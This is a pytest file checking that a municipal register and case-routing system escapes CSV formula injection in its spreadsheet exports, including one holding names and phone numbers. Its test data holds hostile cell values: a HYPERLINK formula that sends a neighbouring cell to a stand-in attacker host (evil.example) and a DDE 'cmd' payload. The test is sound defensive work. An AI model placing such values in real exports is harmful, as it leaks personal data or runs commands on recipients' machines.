"""CSV formula injection (probe issue 26, MEDIUM 9): a name such as ``=HYPERLINK(…)``,
``@SUM(1)`` or ``+cmd|' /C calc'!A0`` is written so that a spreadsheet shows it as text — in the
register export (with phone numbers beside it), the routing table, the located file's answer
columns — and what we wrote reads back as it was."""

from __future__ import annotations

import csv

import pytest
from sqlalchemy import text

from layers.access.audit import cli_principal
from layers.cases import routing
from layers.demo.register import load as load_register
from layers.interchange.spreadsheet import read_cell, safe_cell
from layers.locating.bulk import locate_csv
from layers.locating.locators import LocatorRegistry
from layers.register import keys
from layers.register.crypto import PersonalData, _decode
from layers.storage.db import session_scope
from tests.support import MONDAY_10, TEST_REGISTER_KEY, scratch_database

HOSTILE = ['=HYPERLINK("http://evil.example/?"&C2,"点击查看")', "@SUM(1)", "+cmd|' /C calc'!A0",
           "-2+3", "\t=1+1"]
RUNS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def district(server_url, city_template):
    with scratch_database(server_url, pool_size=2, template=city_template) as (_url, engine):
        load_register(engine, PersonalData(_decode(TEST_REGISTER_KEY)), scale=0.05,
                      today=MONDAY_10.date())
        yield engine


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_like_text_is_written_as_text_and_read_back_as_it_was(value):
    written = safe_cell(value)
    assert written.startswith("'") and read_cell(written) == value


@pytest.mark.parametrize("value", ["-12.5", "+8613812345678", "张三", "", 42, None])
def test_numbers_and_plain_text_are_written_as_they_are(value):
    assert safe_cell(value) == value


def test_the_register_export_with_personal_data_runs_no_formula(district, tmp_path):
    with district.begin() as conn:
        ids = conn.execute(text("SELECT id FROM persons ORDER BY id LIMIT :n"),
                           {"n": len(HOSTILE)}).scalars().all()
        for person, name in zip(ids, HOSTILE, strict=True):
            conn.execute(text("UPDATE persons SET name = :n WHERE id = :i"), {"n": name, "i": person})
    path = tmp_path / "register.csv"
    keys.export_persons(district, PersonalData(_decode(TEST_REGISTER_KEY)), path,
                        by=cli_principal(), personal=True, scope=None)
    with path.open(encoding="utf-8-sig") as fh:
        rows = list(csv.DictReader(fh))
    names = [r["姓名"] for r in rows]
    assert all("'" + name in names for name in HOSTILE)
    assert not [cell for r in rows for cell in r.values() if cell.startswith(RUNS)
                and not cell.lstrip("+-").replace(".", "").isdigit()]
    assert any(r["联系电话"].isdigit() for r in rows)  # numbers in clear stay numbers


def test_the_routing_table_round_trips_a_formula_like_name(district):
    with session_scope(district) as session:
        _version, categories, _deps = routing.load(session)
        first = next(iter(categories.values()))
        code, first.name = first.code, "=1+1 占道经营"
        written = routing.to_csv(categories)
        session.rollback()
    assert "'=1+1 占道经营" in written
    assert next(r for r in routing.from_csv(written) if r.code == code).name == "=1+1 占道经营"


def test_the_located_files_answer_columns_run_no_formula(district):
    with district.begin() as conn:
        conn.execute(text("UPDATE areas SET name = '=HYPERLINK(\"http://evil.example\")'"))
        lon, lat = conn.execute(text("""
            SELECT ST_X(ST_PointOnSurface(geom)), ST_Y(ST_PointOnSurface(geom)) FROM areas
            WHERE level = 'grid' ORDER BY code LIMIT 1""")).one()
    locator = LocatorRegistry(district).active()
    out = b"".join(bytes(chunk) for chunk in locate_csv(locator, f"lon,lat\n{lon},{lat}\n",
                                                        "wgs84")).decode()
    row = next(csv.DictReader(out.splitlines()))
    assert row["grid_name"].startswith("'=HYPERLINK")
